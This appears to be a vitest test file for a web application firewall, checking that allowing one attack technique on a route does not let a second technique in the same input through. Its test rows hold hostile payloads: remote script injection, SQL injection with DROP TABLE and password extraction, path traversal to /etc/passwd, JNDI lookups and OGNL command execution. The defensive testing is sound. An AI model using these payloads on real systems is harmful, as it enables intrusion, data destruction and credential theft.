// What is not lifted must not pass behind what is, in the very same text: every detector goes on telling.
import { expect, test } from "vitest"
import type { Allowance } from "../../core/allowance.ts"
import type { Decision } from "../../core/decision.ts"
import { createInspection } from "../inspection.ts"
import { compileRules } from "../rules.ts"

function judged(value: string, lifted: Pick<Allowance, "detector" | "technique"> | null): Decision {
    const place = { id: "a1", route: "/f", path: "query.a", why: "", owner: "", transaction: null }
    const allowances = lifted === null ? [] : [{ ...place, ...lifted, sinceMs: 0, untilMs: 2 }]
    const head = { method: "GET", target: `/f?a=${encodeURIComponent(value)}`, httpVersion: "1.1", headers: [] }
    const rules = { set: compileRules([], allowances, null), route: "/f", nowMs: 1 }
    return createInspection(head, { mode: "block", bodyInspectBytes: 1_000, rules }).end()
}

const rows = [
    {
        detector: "markup",
        technique: "event-handler",
        honest: '<b onclick="save()">a</b>',
        both: '<b onclick="save()">a</b><script src=//example.jp/a.js></script>',
    },
    {
        detector: "sql",
        technique: "stacked-statement",
        honest: "1; DROP TABLE members",
        both: "1; DROP TABLE members; --' UNION SELECT name, password FROM members -- ",
    },
    {
        detector: "path-traversal",
        technique: "credential-file",
        honest: "/home/web/.env",
        both: "/home/web/.env ../../../../etc/passwd",
    },
    {
        detector: "expression",
        technique: "jndi-lookup",
        honest: "${jndi:ldap://192.0.2.1/a}",
        both: "${jndi:ldap://192.0.2.1/a} %{(#a=@java.lang.Runtime@getRuntime()).exec('id')}",
    },
] as const

test.each(rows)("$detector: $technique is lifted, another technique behind it is not", (row) => {
    expect(judged(row.honest, null).kind).toBe("block")
    expect(judged(row.honest, row).kind).not.toBe("block")
    expect(judged(row.both, row).kind).toBe("block")
})
